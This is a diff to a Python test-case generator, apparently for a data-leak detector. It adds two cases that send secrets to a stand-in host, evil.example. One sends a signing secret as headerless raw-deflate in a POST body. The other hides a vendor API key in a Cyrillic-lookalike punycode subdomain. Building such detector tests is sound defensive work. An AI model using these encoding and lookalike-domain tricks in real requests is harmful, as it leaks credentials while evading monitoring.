@@ -362,6 +362,8 @@ def attacks(rng: random.Random) -> list[Case]:
             headers=(("Content-Encoding", "br"),), body=brotli.compress(signing.encode()))
         add("compressed", "gzip inside brotli", ("GITHUB_TOKEN",), method="POST", url=f"{evil}/z",
             headers=(("Content-Encoding", "gzip, br"),), body=brotli.compress(gzip.compress(gh.encode())))
+    add("compressed", "raw deflate, no header and no Content-Encoding", ("SIGNING_SECRET",), method="POST",
+        url=f"{evil}/z", headers=(("Content-Type", "application/octet-stream"),), body=zlib.compress(signing.encode())[2:-4])
     add("compressed", "base64 of gzip in JSON", ("DB_PASSWORD",), method="POST", url=f"{evil}/z", headers=(JSON,),
         body=_json({"blob": base64.b64encode(gzip.compress(db.encode())).decode()}))
 
@@ -379,6 +381,9 @@ def attacks(rng: random.Random) -> list[Case]:
     host("url-safe base64 label", ("DB_PASSWORD",), f"{_b64url(b'k' + db.encode()).lower()}.evil.example")
     host("reversed in a label", ("VENDOR_API_KEY",), f"{vendor[::-1].lower()}.evil.example")
     host("token format as a label", ("npm-token",), f"{f.npm()}.evil.example")
+    lookalike = vendor.lower().translate(str.maketrans("aeo", "\u0430\u0435\u043e"))  # Cyrillic а, е, о
+    host("vendor key in lookalike letters, a punycode label", ("VENDOR_API_KEY",),
+         f"xn--{lookalike.encode('punycode').decode('ascii')}.cdn.evil.example")
 
     # -- splits --------------------------------------------------------------------------------
     half = len(gh) // 2
